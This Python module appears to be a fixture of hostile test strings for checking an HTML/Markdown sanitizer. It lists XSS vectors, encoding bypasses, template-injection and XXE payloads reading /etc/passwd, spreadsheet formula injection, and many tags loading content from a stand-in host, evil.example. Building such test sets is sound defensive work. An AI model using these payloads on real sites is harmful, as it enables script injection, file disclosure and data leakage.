"""Texts that try to run a script, load something from elsewhere, or break out of where they stand."""
# ruff: noqa: E501

from __future__ import annotations

# Each of a kind of its own; `make test` opens these.
FEW = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//",
    '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "<!--<script>alert(1)</script>", "]]><script>alert(1)</script>",
    "{{ 7*7 }}{% raw %}", "${alert(1)}", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>", "[x](javascript:alert(1))", "[x](JaVaScRiPt&#58;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)", "![x](https://evil.example/x.png)", "<https://evil.example/>",
    "<style>@import 'https://evil.example/x.css';</style>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button autofocus onfocus=alert(1)>", "<math><mtext><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>", "<p style=\"background:url(https://evil.example/x)\">", "<input autofocus onfocus=alert(1)>",
    "<xss id=x tabindex=1 onfocus=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "\\u003cscript\\u003ealert(1)",
    "<table><td background=javascript:alert(1)>", "<a href='&#x6A;avascript:alert(1)'>x</a>", "`<script>alert(1)</script>`",
]  # fmt: skip

_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbeforetoggle",
    "onscrollend",
)
_TAGS = (
    "img src=x", "svg", "body", "input autofocus", "video src=x", "audio src=x", "details open", "marquee", "select autofocus",
    "textarea autofocus", "iframe", "object data=x", "embed src=x", "a href=x autofocus tabindex=1", "button autofocus",
    "p popover", "link rel=stylesheet href=x", "script src=x", "style", "image src=x", "track src=x", "math",
)  # fmt: skip
_SCHEMES = (
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)", " javascript:alert(1)",
    "&#1;javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x0000006a;avascript:alert(1)",
    "java&Tab;script:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://evil.example/x", "file:///etc/passwd", "//evil.example/x", "\\\\evil.example/x", "/\\evil.example/x",
    "http:javascript:alert(1)", "javascript://%0aalert(1)", "feed:javascript:alert(1)", "view-source:javascript:alert(1)",
)  # fmt: skip
_PLACES = ("[x]({})", "![x]({})", "<{}>", "[x]: {}\n\n[x]", "<a href='{}'>x</a>", "<img src='{}'>")
_BREAKS = (
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a id=x><a id=x name=y href=1>", "<img name=body>", "<form id=location>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><set attributeName=onload to=alert(1)>", "<svg><a xlink:href='javascript:alert(1)'><text>x",
    "<xml:namespace prefix=t />", "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<template><script>alert(1)</script></template>", "<slot onslotchange=alert(1)>", "<portal src=https://evil.example/>", "<dialog open onclose=alert(1)>",
    "<plaintext>", "<textarea></textarea><script>alert(1)</script>", "<title></title><img src=x onerror=alert(1)>", "<select><option></select><img src=x onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>", "<img srcset='https://evil.example/x 1x'>", "<picture><source srcset=https://evil.example/x></picture>",
    "<video poster=https://evil.example/x>", "<input type=image src=https://evil.example/x>", "<body background=https://evil.example/x>", "<link rel=prefetch href=https://evil.example/>",
    "<link rel=dns-prefetch href=//evil.example>", "<style>*{background:url(https://evil.example/x)}</style>", "<p style='-webkit-mask:url(https://evil.example/x)'>",
    "<a ping=https://evil.example/ href=/>x</a>", "<area href=javascript:alert(1) shape=default>", "<iframe src=https://evil.example/>", "<frameset onload=alert(1)>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% include '/etc/passwd' %}", "{% for i in range(10**9) %}x{% endfor %}", "{{ config }}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}",
    "\u2028alert(1)//", "\u202e<script>alert(1)</script>", "<scr\u200bipt>alert(1)</script>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<script\x0c>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "%3Cscript%3Ealert(1)%3C/script%3E", "\\x3cscript\\x3ealert(1)", "\\\"><script>alert(1)</script>", "'-alert(1)-'", '"-alert(1)-"', "';alert(1)//", '";alert(1)//',
    "*/alert(1)/*", "--><script>alert(1)</script><!--", "*<img src=x onerror=alert(1)>*", "# <img src=x onerror=alert(1)>", "> <svg onload=alert(1)>", "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>", "[<img src=x onerror=alert(1)>](/)", "![<img src=x onerror=alert(1)>](/x.png)", "[x](/ \"' onmouseover=alert(1) '\")", "![x](/x.png '\" onerror=alert(1) \"')",
    "```\n</code></pre><script>alert(1)</script>\n```", "``` \"><script>alert(1)</script>\nx\n```", "~~~ onload=alert(1)\nx\n~~~", "<http://a\" onmouseover=alert(1)>", "<a@b\"onclick=alert(1)>", "http://x\"onclick=alert(1)//",
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "javascript:alert(1)", "onerror=alert(1)", "</html><script>alert(1)</script>", "<a href=\"x\" href=\"javascript:alert(1)\">x</a>",
    "<p id=\"fn1\" onclick=alert(1)>", "<li id='fn:1' style='x:expression(alert(1))'>", "<abbr title='\"><script>alert(1)</script>'>x</abbr>", "<time datetime='\" onmouseover=\"alert(1)'>x</time>",
)  # fmt: skip

ALL = list(
    dict.fromkeys(
        [
            *FEW,
            *(f"<{tag} {event}=alert(1)>" for tag in _TAGS for event in _EVENTS),
            *(place.format(scheme) for scheme in _SCHEMES for place in _PLACES),
            *_BREAKS,
        ]
    )
)
